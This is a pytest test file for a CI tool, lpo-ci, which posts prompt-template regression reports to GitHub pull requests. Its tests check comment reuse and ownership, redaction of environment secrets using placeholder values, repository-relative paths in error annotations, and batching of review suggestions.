        assert "regressed" in ours(gh)[0]["body"] and "holds its accuracy" in ours(gh)[1]["body"]


def test_two_workflows_keep_a_comment_each_unless_they_share_a_key(regressed, github_env, tmp_path, monkeypatch):
    report, files, base, head = regressed
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        for workflow_name, data in (("prompts (gpt-4o)", report), ("prompts (local)", passing(report))):
            monkeypatch.setenv("GITHUB_WORKFLOW", workflow_name)
            monkeypatch.setenv("GITHUB_JOB", "gate")
            publish(PublishOptions(report=write(tmp_path, data), suggestions=False))
        assert ["regressed" in c["body"] for c in ours(gh)] == [True, False]
        gh.issue_comments[7].clear()
        for workflow_name, data in (("prompts (gpt-4o)", report), ("prompts (local)", passing(report))):
            monkeypatch.setenv("GITHUB_WORKFLOW", workflow_name)
            publish(PublishOptions(report=write(tmp_path, data), suggestions=False, comment_key="prompts"))
        (shared,) = ours(gh)
        assert "### lpo-ci `prompts`: the prompt template holds its accuracy" in shared["body"]


def test_a_comment_of_an_earlier_version_is_taken_over(regressed, github_env, tmp_path):
    report, files, base, head = regressed
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        old = gh.add_issue_comment(7, "<!-- lpo-ci:report -->\n### lpo-ci: the prompt template holds its accuracy",
                                   login=gh.bot_login, user_type="Bot")
        github_env(gh, base, head)
        assert publish(PublishOptions(report=write(tmp_path, report), suggestions=False)) == EXIT_FAIL
        (now,) = ours(gh)
        assert now["id"] == old["id"] and "1 template regressed" in now["body"]


@pytest.mark.parametrize("kind", ["pat", "app"])
def test_any_account_recognises_its_own_comment_and_suggestions(project, github_env, tmp_path, monkeypatch, kind):
    from tests.support.github_server import Identity

    me = Identity("release-robot", "pat", maintainer=True) if kind == "pat" else Identity("lpo-app[bot]", "app")
    with fake_github(tokens={"token-under-test": me}) as gh:
        open_pull(gh, project)
        github_env(gh, project.base, project.head)
        monkeypatch.setenv("GITHUB_TOKEN", "token-under-test")
        theirs = [gh.add_issue_comment(7, f"{MARKER}\nquoted by a person", login="mallory"),
                  gh.add_issue_comment(7, f"{MARKER}\nanother bot", login=gh.bot_login, user_type="Bot")]
        for _ in range(2):
            assert publish(PublishOptions(report=write(tmp_path, project.report))) == EXIT_FAIL
        (mine,) = ours(gh, me.login)
        assert "1 template regressed" in mine["body"]
        assert [c["body"] for c in gh.issue_comments[7] if c["id"] in {t["id"] for t in theirs}] == \
            [t["body"] for t in theirs]  # a maintainer's token could edit them: it did not
        assert len(gh.review_comments[7]) == 1 and gh.review_comments[7][0]["user"]["login"] == me.login
        asked = ("GET", "/user", 200) if kind == "pat" else ("POST", "/graphql", 200)
        assert asked in gh.log


def test_an_unknown_account_falls_back_to_bot_comments(project, github_env, tmp_path):
    with fake_github(fail_always={("POST", r"^/graphql$"): 403}) as gh:
        open_pull(gh, project)
        github_env(gh, project.base, project.head)
        for _ in range(2):
            assert publish(PublishOptions(report=write(tmp_path, project.report))) == EXIT_FAIL
        assert len(ours(gh)) == 1 and len(gh.review_comments[7]) == 1


# --- secrets, short ones too, and the report on disk ----------------------------------------------

def test_which_environment_values_are_secrets_and_how_they_are_replaced():
    from lpo_ci.redaction import Redactor, secrets_from_env

    env = {"FOO_TOKEN": "abc123", "OPENAI_API_KEY": "sk-0123456789", "FLAG_TOKEN": "true", "MAX_TOKEN": "256",
           "ONE_SECRET": "1", "DB_PASSWORD": "hunter2", "PIN_KEY": "123456789", "HOME": "/var/lib/ci", "PATH_KEYS": "x"}
    secrets = secrets_from_env(env)
    assert secrets == ["sk-0123456789", "123456789", "hunter2", "abc123"]  # longest first
    redact = Redactor(secrets)
    text = "abc123 xabc123 abc1234 (abc123) true 256 1 hunter2. sk-0123456789abc 1234567890 123456789"
    assert redact(text) == ("REDACTED xabc123 abc1234 (REDACTED) true 256 1 REDACTED. REDACTEDabc REDACTED0 "
                            "REDACTED")  # 8 characters or more: replaced even inside a longer word
    assert redact.data({"abc123": ["abc123", {"k": "hunter2"}], "n": 1}) == \
        {"REDACTED": ["REDACTED", {"k": "REDACTED"}], "n": 1}


def test_short_secrets_are_redacted_as_whole_words_in_everything_posted(
        regressed, github_env, tmp_path, capsys, monkeypatch):
    report, files, base, head = regressed
    leaky = copy.deepcopy(report)
    for example in leaky["templates"][0]["examples"]:
        example["head"]["response"] = "key abc123, not xabc123 nor abc1234; true 256"
    leaky["templates"][0]["reason"] = "the provider said: invalid key abc123"
    with fake_github() as gh:
        gh.add_pull(7, head_sha=head, files=files)
        github_env(gh, base, head)
        for name, value in (("FOO_TOKEN", "abc123"), ("FLAG_TOKEN", "true"), ("MAX_TOKEN", "256")):
            monkeypatch.setenv(name, value)
        assert publish(PublishOptions(report=write(tmp_path, leaky))) == EXIT_FAIL
        body = gh.issue_comments[7][0]["body"]
    out = capsys.readouterr()
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    log = "\n".join(line for line in out.out.splitlines() if not line.startswith("::add-mask"))
    for text in (body, summary, log):
        assert not re.search(r"(?<!\w)abc123(?!\w)", text)
        assert "key REDACTED, not xabc123 nor abc1234; true 256" in text or "invalid key REDACTED" in text
    masks = [line.split("::")[-1] for line in out.out.splitlines() if line.startswith("::add-mask")]
    assert "abc123" in masks and "true" not in masks and "256" not in masks


def test_the_report_on_disk_has_no_secrets_unless_kept(tmp_path):
    """A provider that echoes credentials in its answers: the report (a public artifact in the
    fork-safe set-up) keeps none of them, unless LPO_CI_REPORT_SECRETS=keep."""
    answer = "True. (debug: key sk-live-0123456789abcdef, user abc123)"
    with fake_openai_server(answer=lambda prompt: answer) as server:
        root = tmp_path / "project"
        make_regressed_project(root, server.url)
        env = {k: v for k, v in os.environ.items() if not k.startswith(("GITHUB_", "PYTEST_", "LPO_CI_REPORT"))}
        env.update(OPENAI_API_KEY=SECRET, FOO_TOKEN="abc123", FLAG_TOKEN="true")
        command = [sys.executable, "-m", "pytest", "--lpo", "--lpo-only", "--lpo-report=report.json", "-p",
                   "no:cacheprovider", "--lpo-base=main"]
        done = subprocess.run(command, cwd=root, env=env, capture_output=True, text=True)
        assert done.returncode == 0, done.stdout + done.stderr
        text = (root / "report.json").read_text(encoding="utf-8")
        assert SECRET not in text and not re.search(r"\babc123\b", text)
        assert "True. (debug: key REDACTED, user REDACTED)" in text and '"True"' in text
        env["LPO_CI_REPORT_SECRETS"] = "keep"
        assert subprocess.run(command, cwd=root, env=env, capture_output=True).returncode == 0
        assert answer in (root / "report.json").read_text(encoding="utf-8")


# --- paths relative to the repository, annotations where the reason points -----------------------

@pytest.mark.parametrize("machine_path", ["/runner/_work/prompts/prompts/prompts/x.j2",
                                          r"D:\a\prompts\prompts\prompts\x.j2"], ids=["linux", "windows"])
def test_a_reason_from_another_runner_is_posted_with_repository_paths(project, fork_safe, tmp_path, capsys,
                                                                       machine_path):
    errored = copy.deepcopy(project.report)
    errored["templates"][0].update(status="error", optimization=None,
                                   reason=f"{machine_path}:15: Jinja syntax error: unexpected '}}'")
    with fake_github() as gh:
        open_pull(gh, project)
        fork_safe(gh, project)
        assert publish(PublishOptions(report=write(tmp_path, errored), pr=7)) == EXIT_ERROR
        body = gh.issue_comments[7][0]["body"]
    out = capsys.readouterr().out
    summary = (tmp_path / "summary.md").read_text(encoding="utf-8")
    for text in (body, summary, out):
        assert "runner" not in text and "D:" not in text
    assert "prompts/x.j2:15: Jinja syntax error" in body.replace("\\", "")
    (error,) = [line for line in out.splitlines() if line.startswith("::error")]
    assert "file=prompts/x.j2,line=15::prompts/x.j2:15: Jinja syntax error" in error


def test_paths_of_this_runner_are_shown_relative_to_the_repository(project, github_env, tmp_path, capsys,
                                                                   monkeypatch):
    errored = copy.deepcopy(project.report)
    temp = tmp_path / "runner-temp"
    errored["templates"][0].update(status="error", optimization=None, reason=(
        f"{project.root / 'prompts' / 'x.j2'}:15: unknown variable; the cache {temp / 'lpo-ci' / 'cache'} "
        f"and {Path.home() / '.cache' / 'x'} are fine; see pyproject.toml:3 and https://example.com/a/b"))
    with fake_github() as gh:
        open_pull(gh, project)
        github_env(gh, project.base, project.head)
        monkeypatch.setenv("RUNNER_TEMP", str(temp))
        assert publish(PublishOptions(report=write(tmp_path, errored))) == EXIT_ERROR
        body = gh.issue_comments[7][0]["body"].replace("\\", "")
    assert str(project.root) not in body and str(tmp_path) not in body and str(Path.home()) + "/" not in body
    assert "prompts/x.j2:15: unknown variable; the cache $RUNNER_TEMP/lpo-ci/cache and ~/.cache/x are fine" in body
    assert "https://example.com/a/b" in body
    (error,) = [line for line in capsys.readouterr().out.splitlines() if line.startswith("::error")]
    assert "file=prompts/x.j2,line=15::" in error


def test_a_reason_naming_the_projects_settings_points_the_annotation_there(project, github_env, tmp_path, capsys):
    errored = copy.deepcopy(project.report)
    errored["templates"][0].update(status="error", optimization=None,
                                   reason="pyproject.toml:3: 'samples' must be a positive integer")
    with fake_github() as gh:
        open_pull(gh, project)
        github_env(gh, project.base, project.head)
        publish(PublishOptions(report=write(tmp_path, errored), comment=False, suggestions=False))
    (error,) = [line for line in capsys.readouterr().out.splitlines() if line.startswith("::error")]
    assert "file=pyproject.toml,line=3::" in error


def test_annotation_texts_say_things_once(regressed, github_env, tmp_path, capsys):
    report, *_ = regressed  # github_env: outside Actions, annotations are plain lines
    assert publish(PublishOptions(report=write(tmp_path, report), comment=False, suggestions=False)) == EXIT_FAIL
    err = capsys.readouterr().err
    assert "suggested fix: suggested fix" not in err and "regression: regression" not in err
    assert f"prompts/x.j2:{EDITED_LINE}: notice: lpo-ci: suggested fix: held-out accuracy" in err
    assert "prompts/x.j2:1: error: lpo-ci: accuracy regression: accuracy dropped 40.0%" in err


def test_many_suggestions_go_out_in_reviews_of_twenty_never_splitting_a_template(project, github_env, tmp_path):
    from lpo_ci.github.review import REVIEW_BATCH

    many_fixes = copy.deepcopy(project.report)
    template = many_fixes["templates"][0]
    many_fixes["templates"] = [dict(copy.deepcopy(template), template=f"prompts/t{i:02}.j2") for i in range(25)]
    (x,) = project.files
    files = [dict(x, filename=f"prompts/t{i:02}.j2") for i in range(25)]
    with fake_github() as gh:
        open_pull(gh, project, files)
        github_env(gh, project.base, project.head)
        for _ in range(2):  # the second run finds them all
            assert publish(PublishOptions(report=write(tmp_path, many_fixes))) == EXIT_FAIL
        assert [len([c for c in gh.review_comments[7] if c["pull_request_review_id"] == r["id"]])
                for r in gh.reviews[7]] == [REVIEW_BATCH, 25 - REVIEW_BATCH]
        assert sorted(c["path"] for c in gh.review_comments[7]) == [f"prompts/t{i:02}.j2" for i in range(25)]
